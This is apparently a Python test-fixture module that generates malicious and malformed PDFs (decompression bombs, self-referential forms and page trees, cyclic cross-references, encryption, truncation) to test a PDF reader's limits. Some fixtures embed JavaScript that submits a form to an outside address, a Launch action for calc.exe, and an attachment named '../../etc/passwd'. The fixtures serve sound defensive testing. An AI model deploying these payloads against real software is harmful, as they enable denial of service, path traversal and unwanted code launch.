"""PDFs that mean harm or are broken: what unpacks without end, nests without end, hides, asks or runs something."""

from __future__ import annotations

import zlib
from collections.abc import Callable

from tests.pdf_files import one_page, pdf, raw_pdf, stream_object, written


def _packed(megabytes: int, times: int, unit: bytes) -> bytes:
    data = b""
    packer = zlib.compressobj(9)
    piece = unit * (1_000_000 // len(unit))
    data = b"".join(packer.compress(piece) for _ in range(megabytes)) + packer.flush()
    for _ in range(times - 1):
        data = zlib.compress(data, 9)
    filters = b"/FlateDecode " * times
    return stream_object(data, b"/Filter [%s]" % filters)


def flate_bomb(megabytes: int = 700, times: int = 2) -> bytes:
    """Return a page whose content unpacks, so many times over, to far more than the memory there is."""
    return one_page(_packed(megabytes, times, b" "))


def text_bomb() -> bytes:
    """Return a page whose content unpacks to hundreds of megabytes of text to show."""
    return one_page(_packed(400, 2, b"BT /F 9 Tf (bomb) Tj ET "))


def form_bomb(depth: int = 12, breadth: int = 12) -> bytes:
    """Return a page that draws forms that draw forms: breadth to the power of depth in all."""
    calls = b" ".join([b"/X Do"] * breadth)
    form = (
        b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /Font << /F 5 0 R >> /XObject << /X %d 0 R >> >>"
    )
    forms = [stream_object(calls, form % (number + 7)) for number in range(depth)]
    last = stream_object(b"BT /F 9 Tf (bomb) Tj ET", form % (depth + 6))
    return one_page(stream_object(calls), *forms, last)


def form_in_itself() -> bytes:
    """Return a page with a form that draws itself."""
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"
    return one_page(stream_object(b"/X Do"), stream_object(b"/X Do", form))


def deep_array(depth: int = 200_000) -> bytes:
    """Return a PDF with an array in an array and so on."""
    return one_page(written(b"Words."), b"[" * depth + b"]" * depth, page=b"/Deep 6 0 R")


def pages_in_themselves() -> bytes:
    """Return a PDF whose tree of pages is its own branch."""
    return raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>")


def many_pages_promised() -> bytes:
    """Return a PDF that says it had two thousand million pages."""
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
    )


def cross_references_in_a_ring() -> bytes:
    """Return a PDF whose table of places points to itself as the one before."""
    whole = one_page(written(b"Words."))
    place = whole.rindex(b"xref\n0 ")
    return whole.replace(b"trailer << ", b"trailer << /Prev %d " % place)


def with_script() -> bytes:
    """Return a page of text in a PDF with JavaScript at its opening, a program to start and an address to send to."""
    action = (
        b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('http://192.0.2.1/'\\)) >> "
        b"/AA << /WC << /S /Launch /F (calc.exe) >> /WS << /S /URI /URI (http://192.0.2.1/) >> >>"
    )
    return one_page(written(b"Words."), catalogue=action)


def with_attachment() -> bytes:
    """Return a page of text in a PDF with a file attached whose name climbs out of its folder."""
    names = b"/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>"
    specification = b"<< /Type /Filespec /F (../../etc/passwd) /EF << /F 7 0 R >> >>"
    return one_page(written(b"Words."), specification, stream_object(b"SECRET"), catalogue=names)


def encrypted() -> bytes:
    """Return a PDF that opens with the password "secret" only."""
    from reportlab.lib.pdfencrypt import StandardEncryption

    return pdf([[(50, 500, "Words.")]], encrypt=StandardEncryption("secret"))


def scanned() -> bytes:
    """Return a PDF of pictures of pages."""
    picture = b"/Type /XObject /Subtype /Image /Width 2 /Height 2 /ColorSpace /DeviceGray /BitsPerComponent 8"
    return one_page(stream_object(b"400 0 0 600 0 0 cm /X Do"), stream_object(b"\0\xff\xff\0", picture))


def cut_short() -> bytes:
    """Return the first half of a PDF."""
    whole = pdf([[(50, 500, "Words.")]] * 9)
    return whole[: len(whole) // 2]


def without_table() -> bytes:
    """Return a PDF whose table of places is gone; readers mend that."""
    whole = one_page(written(b"Words."))
    return whole[: whole.rindex(b"xref\n0 ")] + b"trailer << /Root 1 0 R >>"


READ: dict[str, Callable[[], bytes]] = {
    "script": with_script,
    "attachment": with_attachment,
    "no table of places": without_table,
    "table of places in a ring": cross_references_in_a_ring,
}
"""These hold one paragraph, "Words.", which is read whatever else is in them."""

REFUSED: dict[str, Callable[[], bytes]] = {
    "flate bomb": flate_bomb,
    "bomb of many layers": lambda: flate_bomb(200, 6),
    "bomb of text": text_bomb,
    "bomb of forms": form_bomb,
    "form in itself": form_in_itself,
    "pages in themselves": pages_in_themselves,
    "many pages promised": many_pages_promised,
    "encrypted": encrypted,
    "scanned": scanned,
    "cut short": cut_short,
    "nothing but a head": lambda: b"%PDF-1.7\n",
    "a head and zeros": lambda: b"%PDF-1.7\n" + bytes(1_000_000),
}
"""These hold nothing that could be read within the limits."""

EITHER: dict[str, Callable[[], bytes]] = {"deep array": deep_array}
"""These are read or refused, as the libraries have it."""
